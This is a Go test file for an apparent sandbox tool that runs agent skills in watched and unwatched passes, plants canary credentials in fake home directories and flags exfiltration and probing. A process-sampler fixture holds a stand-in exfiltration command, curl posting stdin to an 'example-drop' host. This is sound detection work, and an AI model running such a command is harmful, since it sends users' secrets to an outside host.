package orchestrator

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sandboxctl/sandboxctl/canaryfs"
	"github.com/sandboxctl/sandboxctl/mcptools"
	"github.com/sandboxctl/sandboxctl/reports"
	"github.com/sandboxctl/sandboxctl/rules"
	"github.com/sandboxctl/sandboxctl/trace"
	"github.com/sandboxctl/sandboxctl/traceplan"
)

func TestStealthReason(t *testing.T) {
	probe := rules.Finding{RuleID: "SBX-PROBE-002", Severity: rules.Medium, Confidence: rules.ConfMedium}
	leak := rules.Finding{RuleID: "SBX-EXFIL-001", Severity: rules.Critical, Confidence: rules.ConfHigh, Harm: rules.HarmExfil}
	rep := func(st reports.Status, v rules.Verdict, fs ...rules.Finding) *reports.Report {
		return &reports.Report{Status: st, Verdict: v, Findings: fs}
	}
	tests := []struct {
		name    string
		stealth string
		rep     *reports.Report
		want    string
	}{
		{name: "auto, tells read", rep: rep(reports.StatusCompleted, rules.Suspicious, probe), want: "tells read: SBX-PROBE-002"},
		{name: "auto, no tells", rep: rep(reports.StatusCompleted, rules.Clean)},
		{name: "auto, harm already proven", rep: rep(reports.StatusCompleted, rules.Malicious, probe, leak)},
		{name: "always", stealth: traceplan.StealthAlways, rep: rep(reports.StatusCompleted, rules.Clean), want: "--stealth"},
		{name: "always, after a timeout", stealth: traceplan.StealthAlways, rep: rep(reports.StatusTimeout, rules.Inconclusive), want: "--stealth"},
		{name: "always, watched pass failed", stealth: traceplan.StealthAlways, rep: rep(reports.StatusError, rules.Inconclusive)},
		{name: "off", stealth: traceplan.StealthOff, rep: rep(reports.StatusCompleted, rules.Suspicious, probe)},
		{name: "no report", stealth: traceplan.StealthAlways},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := stealthReason(traceplan.Plan{Stealth: tt.stealth}, tt.rep); got != tt.want {
				t.Errorf("stealthReason = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestUnwatchedPlan(t *testing.T) {
	p := traceplan.Plan{TraceID: strings.Repeat("a", 50) + "-bcdefghijkl", SkillPath: "s", Driver: traceplan.Driver{Kind: traceplan.DriverLiteral},
		Limits: traceplan.DefaultLimits(), Seed: []byte("x"), Stealth: traceplan.StealthAlways}
	home := &canaryfs.Home{User: "mwalker", Hostname: "mw-desk", HomeDir: "/home/mwalker"}
	up, err := unwatchedPlan(p, &run{home: home, seed: []byte("watched seed")})
	if err != nil {
		t.Fatal(err)
	}
	if up.User != "mwalker" || up.Hostname != "mw-desk" {
		t.Errorf("unwatched pass as %s@%s, want the watched pass's names", up.User, up.Hostname)
	}
	if !up.Unwatched || string(up.Seed) != "watched seed" || !strings.HasSuffix(up.TraceID, "-unwatched") || up.TraceID == p.TraceID {
		t.Errorf("unwatchedPlan = %+v", up)
	}
	if up.Twin == nil || canaryTwin(up.Twin) == nil || !up.Twin.Start.IsZero() || len(up.Twin.Entropy) != 0 {
		t.Errorf("unwatched pass's twin %+v: want other secrets, its own clock and randomness", up.Twin)
	}
	if err := up.Validate(); err != nil {
		t.Errorf("unwatched plan invalid: %v", err)
	}
	if p.Unwatched {
		t.Errorf("unwatchedPlan changed its input")
	}
	if argv := mcpArgv(up, home); !slices.Contains(argv, "--direct") {
		t.Errorf("unwatched tool server %q runs the tracer", argv)
	}
	if argv := mcpArgv(p, home); slices.Contains(argv, "--direct") {
		t.Errorf("watched tool server %q runs without the tracer", argv)
	}
	// the skill reads the tool server's command line: no tracer named in it
	if argv := strings.Join(mcpArgv(up, home), " "); strings.Contains(argv, "strace") {
		t.Errorf("unwatched tool server's command line names the tracer: %s", argv)
	}
}

// psSandbox plays agentd __ps: it prints its lines, then waits for its
// stdin to close.
type psSandbox struct {
	Sandbox
	lines []string
}

func (s *psSandbox) Exec(ctx context.Context, e ExecSpec) (int, error) {
	if !slices.Contains(e.Argv, "__ps") {
		return -1, io.ErrUnexpectedEOF
	}
	for _, l := range s.lines {
		io.WriteString(e.Stdout, l+"\n")
	}
	_, err := io.Copy(io.Discard, e.Stdin)
	return 0, err
}

func TestProcSampler(t *testing.T) {
	line := func(s mcptools.Sampled) string { b, _ := json.Marshal(s); return string(b) }
	sb := &psSandbox{lines: []string{
		line(mcptools.Sampled{PID: 41, PPID: 40, Exe: "/usr/bin/python3", Argv: []string{"python3", "sync.py"}}),
		"not json", `{"pid": -3}`,
		line(mcptools.Sampled{PID: 42, PPID: 41, Exe: "/usr/bin/curl", Argv: []string{"curl", "-d", "@-", "https://x.example-drop.net"}}),
		line(mcptools.Sampled{PID: 43, PPID: 41, Exe: "/usr/bin/cat", Argv: []string{"cat"}, TracerPID: 7}),
	}}
	s := startProcSampler(t.Context(), sb, time.Now)
	deadline := time.Now().Add(5 * time.Second)
	for n, _ := s.counts(); n < 3 && time.Now().Before(deadline); n, _ = s.counts() {
		time.Sleep(10 * time.Millisecond)
	}
	evs := s.stop()
	s.stop() // idempotent
	var got []string
	for _, e := range evs {
		d := e.Data.(*trace.Exec)
		if e.Source != trace.SourceSample || e.Type != trace.TypeExec || e.PID == 0 {
			t.Errorf("event %+v", e)
		}
		got = append(got, d.Path)
	}
	if want := []string{"/usr/bin/python3", "/usr/bin/curl", "/usr/bin/cat"}; !slices.Equal(got, want) {
		t.Errorf("sampled %q, want %q", got, want)
	}
	if n, traced := s.counts(); n != 3 || traced != 1 {
		t.Errorf("counts = %d, %d; want 3 sampled, 1 traced", n, traced)
	}
}

// TestUnwatchedHome: the unwatched pass's home is the watched pass's made
// again with other secrets: the same names and files (a destination drawn
// from the home, like the persona's company domain, compares between the
// passes), every planted token of another value.
func TestUnwatchedHome(t *testing.T) {
	r := &Runner{}
	p := traceplan.Plan{TraceID: "t", SkillPath: "s", Driver: traceplan.Driver{Kind: traceplan.DriverLiteral}, Limits: traceplan.DefaultLimits(), Stealth: traceplan.StealthAlways}
	watched := &run{plan: p, started: time.Now()}
	if err := r.seedIdentity(watched); err != nil {
		t.Fatal(err)
	}
	if err := watched.homeWait(); err != nil {
		t.Fatal(err)
	}
	up, err := unwatchedPlan(p, watched)
	if err != nil {
		t.Fatal(err)
	}
	second := &run{plan: up, started: time.Now().Add(time.Minute)}
	if err := r.seedIdentity(second); err != nil {
		t.Fatal(err)
	}
	if err := second.homeWait(); err != nil {
		t.Fatal(err)
	}
	if second.clockOff != 0 {
		t.Errorf("unwatched pass's clock offset %v, want its own clock", second.clockOff)
	}
	w, u := watched.home, second.home
	if w.User != u.User || w.Hostname != u.Hostname || w.HomeDir != u.HomeDir {
		t.Errorf("unwatched home %s@%s, watched %s@%s", u.User, u.Hostname, w.User, w.Hostname)
	}
	if w.Project != u.Project {
		t.Errorf("unwatched home's project %s, watched %s", u.Project, w.Project)
	}
	// The company's domain and the user's address, as the passes' git
	// identities and remotes name them.
	for _, name := range []string{"~/.gitconfig", "~/.ssh/config", "~/.kube/config"} {
		a, aok := w.File(name)
		b, bok := u.File(name)
		if !aok || !bok {
			t.Errorf("%s: not in both homes", name)
			continue
		}
		if name != "~/.kube/config" && !bytes.Equal(a.Content, b.Content) {
			t.Errorf("%s differs between the passes:\n%s\n%s", name, a.Content, b.Content)
		}
		if name == "~/.kube/config" && serverLine(a.Content) != serverLine(b.Content) {
			t.Errorf("kube API server %q watched, %q unwatched", serverLine(a.Content), serverLine(b.Content))
		}
	}
	wt, ut := w.Set.Tokens(), u.Set.Tokens()
	if len(wt) == 0 || len(wt) != len(ut) {
		t.Fatalf("tokens: watched %d, unwatched %d", len(wt), len(ut))
	}
	byID := map[string]string{}
	for _, tok := range ut {
		byID[tok.ID] = tok.Value
	}
	for _, tok := range wt {
		if v, ok := byID[tok.ID]; !ok || v == tok.Value {
			t.Errorf("%s (%s): unwatched value %q, watched %q", tok.ID, tok.Location, v, tok.Value)
		}
	}
}

func serverLine(kubeconfig []byte) string {
	for _, l := range strings.Split(string(kubeconfig), "\n") {
		if strings.Contains(l, "server:") {
			return strings.TrimSpace(l)
		}
	}
	return ""
}
